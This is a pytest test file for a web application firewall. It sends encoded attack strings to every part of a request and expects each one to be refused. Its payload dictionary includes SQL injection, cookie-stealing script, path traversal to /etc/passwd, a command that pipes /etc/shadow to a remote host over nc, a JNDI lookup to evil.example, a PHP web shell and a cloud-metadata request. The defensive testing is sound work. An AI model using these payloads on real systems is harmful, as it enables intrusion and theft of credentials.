"""Attacks in every spelling and in every place are refused, from end to end."""

from collections.abc import Iterator
from itertools import count
from typing import Any

import pytest

from groupz_shield import EventKind
from groupz_shield.signatures import Signatures
from kept_between_runs import CACHE
from placed import IN_THE_HEAD, PLACES
from shielded import Site
from spellings import DISGUISES, WRAPPINGS

SPELLINGS = WRAPPINGS | DISGUISES
ATTACKS = {
    "SQL, a union": "0' UNION SELECT pin, 2, owner FROM lockers-- -",
    "SQL, always true": "zoe' OR 'k'='k",
    "SQL, a second query": "7; DROP TABLE visits; --",
    "HTML, a script": "<script>parent.steal(document.cookie)</script>",
    "HTML, an event": '"><img src=q onerror=prompt(8)>',
    "a path": "../../../../../etc/passwd",
    "a path of Windows": "..\\..\\..\\windows\\win.ini",
    "a command": "; cat /etc/shadow | nc 192.0.2.66 4444",
    "a template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a lookup": "${jndi:ldap://evil.example/cn=k}",
    "PHP": "<?php system($_GET['k']); ?>",
    "Java": "T(java.lang.Runtime).getRuntime().exec('id')",
    "XML": '<!DOCTYPE k [<!ENTITY z SYSTEM "file:///etc/hosts">]><k>&z;</k>',
    "LDAP": "*)(uid=*))(|(uid=*",
    "NoSQL": '{"$where": "this.pin == 1 || sleep(900)"}',
    "a forged request": "http://169.254.169.254/latest/meta-data/iam/",
    "a header": "en\r\nSet-Cookie: session=0123456789abcdef\r\n",
}
HARMLESS = "Wij komen met zeven en twintig kinderen"

# Nobody decodes a path that is base64 from its first slash on.
NO_PATH = {name for name in WRAPPINGS if "base64" in name}
# Nobody writes sentences like that.
NEVER_HARMLESS = {"comments for spaces", "base64 in a data URL"}
# Known to be refused, whatever they hold: see `test_places`.
FALSE_ALARMS = {
    *((name, "JSON in UTF-16") for name in SPELLINGS),
    *((name, "extended file name") for name in SPELLINGS),
    *((name, "file name") for name in ("\\u", "\\u{}", "\\x", "octal")),
}


@pytest.fixture(scope="module")
def guarded() -> Site:
    signatures = Signatures(folder=str(CACHE / "signatures"), ban_after=1_000_000)
    return Site({"signatures": signatures, "flood_limit": None})


@pytest.fixture(scope="module")
def addresses() -> Iterator[str]:
    """Clients that nobody knows yet."""
    return (f"203.{n >> 16}.{n >> 8 & 255}.{n & 255}" for n in count())


def answers_to(
    guarded: Site, addresses: Iterator[str], spelling: str, attack: str
) -> dict[str, Any]:
    """Send a text to each place where it can stand, and return what came of it."""
    text = SPELLINGS[spelling](attack)
    answers = {}
    for place, put in PLACES.items():
        is_broken = place in IN_THE_HEAD and "\n" in text
        if is_broken or (place == "path" and spelling in NO_PATH):
            continue
        guarded.events.clear()
        asked: dict[str, Any] = {"PATH_INFO": "/page", **put(text)}
        status = guarded.ask(next(addresses), **asked)
        refused = [e for e in guarded.events if e.kind is EventKind.REFUSED]
        answers[place] = (status, *[event.facts["guard"] for event in refused])
    return answers


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused_in_every_spelling_and_place(
    guarded: Site, addresses: Iterator[str], attack: str, spelling: str
) -> None:
    answers = answers_to(guarded, addresses, spelling, ATTACKS[attack])

    passed = {
        place for place, answer in answers.items() if answer != (403, "signatures")
    }
    assert passed == set()
    assert answers.keys() >= PLACES.keys() - IN_THE_HEAD


@pytest.mark.parametrize("spelling", sorted(SPELLINGS.keys() - NEVER_HARMLESS))
def test_no_spelling_is_refused_for_itself(
    guarded: Site, addresses: Iterator[str], spelling: str
) -> None:
    answers = answers_to(guarded, addresses, spelling, HARMLESS)

    refused = {
        place
        for place, answer in answers.items()
        if answer != (200,) and (spelling, place) not in FALSE_ALARMS
    }
    assert refused == set()
